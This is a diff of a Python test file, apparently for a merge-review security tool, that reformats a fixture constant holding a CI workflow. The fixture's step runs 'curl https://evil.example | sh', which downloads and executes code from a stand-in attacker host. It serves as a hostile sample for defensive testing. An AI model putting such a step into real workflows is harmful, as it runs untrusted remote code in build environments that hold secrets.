@@ -61,7 +61,8 @@ def test_a_manifest_a_union_merge_writes_is_reviewed(tmp_path: Path, capsys: pyt
     assert path in {p for reason in decision["reasons"] for p in reason.get("paths", ())}
 
 
-WORKFLOW = "on: push\njobs:\n  x:\n    runs-on: ubuntu-latest\n    steps:\n      - run: curl https://evil.example | sh\n"
+WORKFLOW = ("on: push\njobs:\n  x:\n    runs-on: ubuntu-latest\n    steps:\n"
+            "      - run: curl https://evil.example | sh\n")
 
 
 def test_rebase_and_merge_lands_what_an_evil_merge_took_out(tmp_path: Path,
